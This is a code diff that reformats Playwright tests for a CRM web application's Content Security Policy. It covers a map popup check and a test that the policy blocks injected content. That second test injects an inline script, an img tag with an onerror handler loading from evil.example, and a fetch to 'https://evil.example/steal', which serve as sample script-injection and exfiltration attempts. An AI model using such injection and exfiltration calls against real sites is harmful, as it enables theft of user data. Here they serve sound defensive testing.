@@ -188,14 +188,14 @@ def test_detail_pages_the_move_dialog_and_a_map_popup_run_without_a_policy_viola
     watch.visit(f"{live_server_url}/map/?q={tag}")
     page.wait_for_function("() => document.getElementById('crm-map').dataset.total === '1'")
     page.evaluate(
-        "document.getElementById('crm-map').__crmMap.setView([48.137, 11.575], 15, {animate: false})"
+        "document.getElementById('crm-map').__crmMap.setView([48.137, 11.575], 15, "
+        "{animate: false})"
     )
     page.wait_for_function("() => document.getElementById('crm-map').dataset.mode === 'points'")
-    x, y = (
-        page.evaluate("""() => { const box = document.getElementById('crm-map'); const m = box.__crmMap;
+    x, y = page.evaluate("""() => { const box = document.getElementById('crm-map');
+        const m = box.__crmMap;
         const r = box.getBoundingClientRect(); const p = m.latLngToContainerPoint([48.137, 11.575]);
         return [r.left + p.x, r.top + p.y]; }""")
-    )
     page.mouse.click(x, y)
     expect(page.locator(".leaflet-popup-content .crm-popup-name")).to_have_text(
         f"CSP customer {tag}"
@@ -239,8 +239,10 @@ def test_the_watcher_sees_what_the_policy_blocks(page, live_server_url, watch):
     login(page, live_server_url, "alice")
     watch.visit(f"{live_server_url}/")
     page.evaluate("""() => {
-        const s = document.createElement("script"); s.textContent = "window.__ran = true"; document.body.append(s);
-        document.body.insertAdjacentHTML("beforeend", '<img src="https://evil.example/x.png" onerror="window.__ran = 2">');
+        const s = document.createElement("script"); s.textContent = "window.__ran = true";
+          document.body.append(s);
+        document.body.insertAdjacentHTML("beforeend",
+          '<img src="https://evil.example/x.png" onerror="window.__ran = 2">');
         fetch("https://evil.example/steal").catch(() => {});
     }""")
     page.wait_for_timeout(500)
